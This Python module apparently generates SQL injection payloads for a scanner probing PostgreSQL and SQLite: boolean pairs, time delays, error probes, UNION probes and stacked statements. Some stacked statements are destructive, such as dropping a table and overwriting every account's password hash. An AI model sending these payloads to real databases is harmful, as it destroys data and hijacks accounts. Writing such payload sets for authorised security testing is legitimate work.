"""Statements smuggled into parameters, as the known tools write them, for both databases.

Five families: what breaks a statement, what is true or false, what waits, what adds rows, what adds a statement.
"""

from __future__ import annotations

from collections.abc import Iterator

__all__ = ["DELAY_S", "MARK", "boolean_pairs", "sql_texts"]

#: How long a statement that got through would wait; an answer this late is a finding.
DELAY_S = 3

#: What a query that got through would put together; it stands in no payload as a whole.
MARK = "qzx7394xzq"
_MARKED = "'qzx'||7394||'xzq'"

#: How a value may be left: bare, as a number, out of quotes, out of brackets.
_WAYS_OUT = ("", "1", "'", '"', "1'", "')", "'))", "1)", "%'", "\\'", "ATGT-2021'", "2021-9M'", "`", "$$")
_ENDS = ("-- -", "--", "#", "/*", ";--", "")

_SLOW = (
    f"AND (SELECT 1 FROM pg_sleep({DELAY_S})) IS NULL",
    f"OR (SELECT 1 FROM pg_sleep({DELAY_S})) IS NOT NULL",
    f"||(SELECT pg_sleep({DELAY_S}))||",
    "AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000))))",
    "OR 1=(SELECT COUNT(*) FROM generate_series(1,50000000))",
    "AND (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<90000000) SELECT COUNT(*) FROM c)>0",
)
_ERRORS = (
    "AND 1=CAST((SELECT version()) AS int)",
    "AND 1=CAST((SELECT sqlite_version()) AS int)",
    "AND 1/0=1",
    "AND EXTRACTVALUE(1,CONCAT(0x7e,version()))",
    "AND (SELECT 1 FROM no_such_table)=1",
    "AND load_extension('x')",
    "AND abs(-9223372036854775808)=1",
)


def boolean_pairs() -> Iterator[tuple[str, str]]:
    """Yield a condition that is true and its twin that is false: the answers have to be the same."""
    for out in _WAYS_OUT:
        for end in _ENDS:
            yield f"{out} AND 1=1 {end}", f"{out} AND 1=2 {end}"
            yield f"{out} OR 7394=7394 {end}", f"{out} OR 7394=7395 {end}"


def sql_texts() -> Iterator[str]:
    """Yield every payload once."""
    for out in _WAYS_OUT:
        for end in _ENDS[:3]:
            yield from (f"{out} {slow} {end}" for slow in _SLOW)
            yield from (f"{out} {error} {end}" for error in _ERRORS)
            for columns in (1, 2, 3, 5, 8, 13):
                yield f"{out} UNION ALL SELECT {','.join([_MARKED] * columns)} {end}"
            yield f"{out}; SELECT pg_sleep({DELAY_S}) {end}"
            yield f"{out}; DROP TABLE report {end}"
            yield f"{out}; UPDATE account SET password_hash='x' {end}"
            yield f"{out}; ATTACH DATABASE '/tmp/x' AS x {end}"
            yield f"{out} ORDER BY 9999 {end}"
            yield f"{out},(CASE WHEN 1=1 THEN 1 ELSE 1/0 END) {end}"
